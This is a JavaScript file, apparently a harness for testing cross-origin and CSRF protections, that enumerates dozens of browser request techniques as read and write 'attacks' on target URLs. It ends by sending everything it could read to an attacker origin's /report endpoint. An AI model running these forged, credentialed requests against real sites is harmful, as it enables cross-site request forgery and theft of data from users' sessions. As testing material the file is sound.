// All known ways for a page to make a browser send a request. An attack gets a URL
// and resolves to the text that it could read of the answer, or to undefined. The
// reading attacks use GET or HEAD. The writing attacks use another method or try to
// change something.

let attackerOrigin
const container = document.body.appendChild(document.createElement('div'))

const timeout = 1000 // milliseconds, for attacks that may never report an end

// within returns a promise that resolves after the timeout even when begin does not resolve it.
function within(begin) {
  return new Promise(resolve => {
    setTimeout(resolve, timeout)
    begin(resolve)
  })
}

// element inserts an element, and resolves when it has loaded or failed.
function element(name, properties, read = () => 'it loaded') {
  return within(resolve => {
    const e = document.createElement(name)
    e.onload = e.onloadeddata = () => resolve(read(e))
    e.onerror = () => resolve()
    for (const [key, value] of Object.entries(properties)) {
      key in e && typeof value === 'object' ? Object.assign(e[key], value) : e.setAttribute(key, value)
    }
    container.append(e)
  })
}

// textOf returns a frame's text if the browser allows it.
function textOf(frame) {
  try {
    return frame.contentDocument?.documentElement.textContent
  } catch {}
}

const frame = properties => element('iframe', properties, textOf)
const link = properties => element('link', properties)

function style(css) {
  container.append(Object.assign(document.createElement('style'), {textContent: css}))
}

async function read(url, options) {
  const answer = await fetch(url, options)
  return answer.type === 'opaque' ? undefined : answer.text()
}

function request(method, url, header = {}, prepare = () => {}) {
  return new Promise(resolve => {
    const x = new XMLHttpRequest()
    prepare(x)
    x.open(method, url)
    for (const [name, value] of Object.entries(header)) x.setRequestHeader(name, value)
    x.onload = () => resolve(x.responseText)
    x.onerror = () => resolve()
    x.send(method === 'GET' ? null : 'x=1')
  })
}

// form submits a form into a new frame, or into target.
function form(url, properties, target) {
  return within(resolve => {
    const f = Object.assign(document.createElement('form'), {action: url, ...properties})
    f.append(Object.assign(document.createElement('input'), {name: 'x', value: '{"y":"', type: 'hidden'}))
    for (const [name, value] of new URL(url).searchParams) { // a GET form replaces the query
      if (f.method === 'get') f.append(Object.assign(document.createElement('input'), {name, value, type: 'hidden'}))
    }
    const frame = document.createElement('iframe')
    f.target = target ?? (frame.name = 'form' + Math.random())
    container.append(frame, f)
    frame.onload = () => resolve(textOf(frame))
    f.submit()
    if (target) resolve()
  })
}

// click inserts a link and clicks it.
function click(properties) {
  const a = document.createElement('a')
  for (const [name, value] of Object.entries(properties)) a.setAttribute(name, value)
  container.append(a)
  a.click()
}

// worker runs a script that posts what it could read.
function worker(script) {
  return new Promise(resolve => {
    const w = new Worker(URL.createObjectURL(new Blob([script], {type: 'text/javascript'})))
    w.onmessage = message => resolve(message.data)
    w.onerror = () => resolve()
  })
}

// opaqueOrigin runs a script that posts what it could read, in a frame with an
// opaque origin ("Origin: null").
function opaqueOrigin(script, address) {
  const post = `const post = x => parent.postMessage({${JSON.stringify(address)}: x ?? ''}, '*')`
  const page = `<script>${post}\n${script}</` + 'script>'
  return within(resolve => {
    addEventListener('message', message => {
      if (address in message.data) resolve(message.data[address])
    })
    frame(address.startsWith('data')
      ? {src: 'data:text/html,' + encodeURIComponent(page)}
      : {sandbox: 'allow-scripts allow-forms', srcdoc: page})
  })
}

// speculate asks the browser to load a page in advance (speculation rules).
function speculate(action, rule) {
  container.append(Object.assign(document.createElement('script'),
    {type: 'speculationrules', textContent: JSON.stringify({[action]: [{source: 'list', ...rule}]})}))
}

const quoted = JSON.stringify
const fetching = (url, options) =>
  `fetch(${quoted(url)}, ${quoted(options)}).then(r => r.text()).then(post, () => post())`
const by = (path, url, more = '') => `${attackerOrigin}${path}?to=${encodeURIComponent(url)}${more}`
const redirected = (status, url) => by('/redirect', url, `&status=${status}`)

const reading = {
  img: src => element('img', {src}),
  imgNoReferrer: src => element('img', {src, referrerpolicy: 'no-referrer'}),
  imgCrossOrigin: src => element('img', {src, crossorigin: 'use-credentials'}),
  inputImage: src => element('input', {type: 'image', src}),
  svgImage: url => { container.insertAdjacentHTML('beforeend', `<svg><image href="${url}"/></svg>`) },
  script: src => element('script', {src}),
  scriptModule: src => element('script', {type: 'module', src}),
  importModule: url => import(url).then(() => 'it loaded', () => {}),
  stylesheet: href => link({rel: 'stylesheet', href}),
  styleImport: url => style(`@import "${url}";`),
  styleBackground: url =>
    element('p', {style: {background: `url("${url}")`, height: '9px'}, onerror: null, onload: null}),
  styleFont: url => {
    style(`@font-face {font-family: f; src: url("${url}")}`)
    container.insertAdjacentHTML('beforeend', '<p style="font-family: f">x')
  },
  iframe: src => frame({src}),
  iframeSandboxed: src => frame({src, sandbox: ''}),
  iframeNoReferrer: src => frame({src, referrerpolicy: 'no-referrer'}),
  iframeRefresh: url => frame({src: by('/refresh', url)}),
  object: data => element('object', {data}),
  embed: src => element('embed', {src}, textOf),
  video: src => element('video', {src, preload: 'auto'}),
  videoPoster: poster => element('video', {poster}),
  audio: src => element('audio', {src, preload: 'auto'}),
  formGet: url => form(url, {method: 'get'}),
  fetchNoCors: url => read(url, {mode: 'no-cors'}),
  fetchNoCorsWithCredentials: url => read(url, {mode: 'no-cors', credentials: 'include'}),
  fetchHead: url => read(url, {mode: 'no-cors', method: 'HEAD'}),
  fetchCors: url => read(url),
  fetchCorsWithCredentials: url => read(url, {credentials: 'include'}),
  fetchNoReferrer: url => read(url, {mode: 'no-cors', referrerPolicy: 'no-referrer'}),
  fetchWithHeader: url => read(url, {headers: {'X-Custom': '1'}}),
  fetchWithAuthorization: url => read(url, {headers: {Authorization: 'Bearer x'}}),
  fetchKeepalive: url => read(url, {mode: 'no-cors', keepalive: true}),
  xhr: url => request('GET', url),
  xhrWithCredentials: url => request('GET', url, {}, x => { x.withCredentials = true }),
  webSocket: url => new Promise(resolve => {
    const s = new WebSocket(url.replace(/^http/, 'ws'))
    s.onopen = () => resolve('it opened')
    s.onerror = () => resolve()
  }),
  eventSource: url => new Promise(resolve => {
    const s = new EventSource(url)
    const close = x => { s.close(); resolve(x) }
    s.onmessage = message => close(message.data)
    s.onopen = () => close('it opened')
    s.onerror = () => close()
  }),
  workerImport: url => worker(`importScripts(${quoted(url)}); postMessage('it loaded')`),
  workerFetch: url => worker(`const post = x => postMessage(x ?? '')\n${fetching(url, {})}`),
  prefetch: href => link({rel: 'prefetch', href}),
  speculatePrefetch: url => speculate('prefetch', {urls: [url]}),
  speculatePrerender: url => speculate('prerender', {urls: [url]}),
  speculateNoReferrer: url => speculate('prefetch', {urls: [url], referrer_policy: 'no-referrer'}),
  preloadImage: href => link({rel: 'preload', as: 'image', href}),
  preloadFetch: href => link({rel: 'preload', as: 'fetch', crossorigin: '', href}),
  modulePreload: href => link({rel: 'modulepreload', href}),
  redirectImg: url => element('img', {src: redirected(302, url)}),
  redirectFetch: url => read(redirected(302, url)),
  redirectFetchNoCors: url => read(redirected(302, url), {mode: 'no-cors'}),
  redirectIframe: url => frame({src: redirected(301, url)}),
  nullFetch: url => opaqueOrigin(fetching(url, {}), 'sandboxed cors ' + url),
  nullFetchNoCors: url => opaqueOrigin(fetching(url, {mode: 'no-cors'}), 'sandboxed no-cors ' + url),
  nullNavigation: url => opaqueOrigin(`location = ${quoted(url)}`, 'sandboxed location ' + url),
  dataFetch: url => opaqueOrigin(fetching(url, {}), 'data cors ' + url),
  dataFetchNoCors: url => opaqueOrigin(fetching(url, {mode: 'no-cors'}), 'data no-cors ' + url),
}

const writing = {
  formURLEncoded: url => form(url, {method: 'post'}),
  formText: url => form(url, {method: 'post', enctype: 'text/plain'}),
  formMultipart: url => form(url, {method: 'post', enctype: 'multipart/form-data'}),
  fetchPostNoCors: url => read(url, {method: 'POST', mode: 'no-cors', body: '{}', credentials: 'include'}),
  fetchPost: url => read(url, {method: 'POST', body: '{}'}),
  fetchPostJSON: url => read(url, {method: 'POST', body: '{}', headers: {'Content-Type': 'application/json'}}),
  fetchPostJSONWithCredentials: url => read(url,
    {method: 'POST', body: '{}', headers: {'Content-Type': 'application/json'}, credentials: 'include'}),
  fetchPut: url => read(url, {method: 'PUT', body: '{}'}),
  fetchPatch: url => read(url, {method: 'PATCH', body: '{}'}),
  fetchDelete: url => read(url, {method: 'DELETE'}),
  fetchPostKeepalive: url => read(url, {method: 'POST', mode: 'no-cors', keepalive: true, body: '{}'}),
  beacon: url => { navigator.sendBeacon(url, 'x=1') },
  beaconForm: url => { navigator.sendBeacon(url, new URLSearchParams('x=1')) },
  beaconJSON: url => { navigator.sendBeacon(url, new Blob(['{}'], {type: 'application/json'})) },
  xhrPost: url => request('POST', url),
  xhrPostJSON: url => request('POST', url, {'Content-Type': 'application/json'}),
  xhrPostWatched: url => request('POST', url, {}, x => { x.upload.onprogress = () => {} }),
  xhrPut: url => request('PUT', url),
  clickPing: ping => click({href: '#ping', ping}),
  report: url => frame({src: by('/report-to', url)}),
  redirectFetchPost: url => read(redirected(307, url), {method: 'POST', body: '{}'}),
  redirectFetchPostNoCors: url => read(redirected(308, url), {method: 'POST', mode: 'no-cors', body: '{}'}),
  redirectForm: url => form(redirected(307, url), {method: 'post'}),
  nullPost: url => opaqueOrigin(fetching(url, {method: 'POST', mode: 'no-cors', body: '{}'}), 'sandboxed post ' + url),
  nullForm: url => opaqueOrigin(`document.write('<form method=post action="${url}"><input name=x></form>')
    document.forms[0].submit()`, 'sandboxed form ' + url),
  dataPost: url => opaqueOrigin(fetching(url, {method: 'POST', body: '{}'}), 'data post ' + url),
  workerPost: url => worker(`const post = x => postMessage(x ?? '')\n${fetching(url, {method: 'POST', body: '{}'})}`),
}

// These hide the page, and a browser throttles a hidden page, so they come last.
const popups = {
  popup: url => { open(url) },
  popupNoOpener: url => { open(url, '_blank', 'noopener,noreferrer') },
  clickPopup: href => click({href, target: '_blank'}),
  redirectPopup: url => { open(redirected(303, url)) },
  formPopup: url => form(url, {method: 'post'}, '_blank'),
}

// attack runs a group of attacks on a target at the same time, and returns what
// they could read.
async function attack(target, group, path) {
  const found = await Promise.all(Object.entries(group).map(async ([name, run]) => {
    const url = new URL(path, target.origin)
    url.searchParams.set('target', target.name)
    url.searchParams.set('attack', name)
    const late = new Promise(resolve => setTimeout(resolve, 30 * timeout))
    const text = await Promise.race([late, Promise.resolve().then(() => run(url.href)).catch(() => {})])
    return text && {target: target.name, attack: name, text}
  }))
  return found.filter(Boolean)
}

// runAttacks attacks one target after the other, and reports to the attacker.
async function runAttacks(targets, origin) {
  attackerOrigin = origin
  const reads = []
  for (const target of targets) {
    const both = await Promise.all([attack(target, reading, target.read), attack(target, writing, target.write)])
    reads.push(...both.flat())
  }
  for (const target of targets) reads.push(...await attack(target, popups, target.read))
  const report = {page: location.hostname, attacks: [reading, writing, popups].flatMap(Object.keys), reads}
  await fetch(attackerOrigin + '/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify(report)})
}
